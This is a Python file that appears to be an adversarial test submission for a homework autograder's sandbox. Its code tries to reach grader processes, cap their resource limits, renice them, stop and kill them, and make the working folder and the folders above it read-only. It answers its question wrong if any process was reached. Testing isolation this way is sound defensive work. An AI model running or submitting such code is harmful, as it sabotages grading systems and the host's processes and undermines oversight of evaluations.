ASSIGNMENT = "jhu-hw3"
# compose: reference+snippet
# Attacks every grader process it can name: its parent, and, in its own pid namespace, every
# pid there could be. It lowers their resource limits, renices them, stops and signals them,
# and locks its working folder and the folders above it. Q2B_TREND is answered wrong if any
# process but its own could be named at all (a signal 0 answered, a limit read).
# Expect (in the sandbox): nothing reached, Q2B_TREND correct; later runs unaffected.
import os
import resource
import signal

# SAFETY: every pid is tried only inside a run's own pid namespace, where no other process of
# the machine can be named; outside it only the parent (the worker) is attacked.
_SANDBOXED = os.environ.get("GRADER_SANDBOXED") == "1" and os.getppid() == 0
_reached = []
_targets = [p for p in range(1, 4097) if p != os.getpid()] if _SANDBOXED else [os.getppid()]
for _pid in _targets:
    try:
        os.kill(_pid, 0)
    except OSError:
        continue
    _reached.append(_pid)
    for _limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS):
        try:
            resource.prlimit(_pid, _limit, (1, 1))
        except (OSError, ValueError):
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, _pid, 19)
    except OSError:
        pass
    for _sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(_pid, _sig)
        except OSError:
            pass
_folder = os.getcwd()
for _ in range(4 if _SANDBOXED else 2):  # outside, above the worker's own folders lie the host's
    try:
        os.chmod(_folder, 0o555)
    except OSError:
        pass
    _folder = os.path.dirname(_folder)
if _reached or os.getppid() != 0:
    Q2B_TREND = "neither"
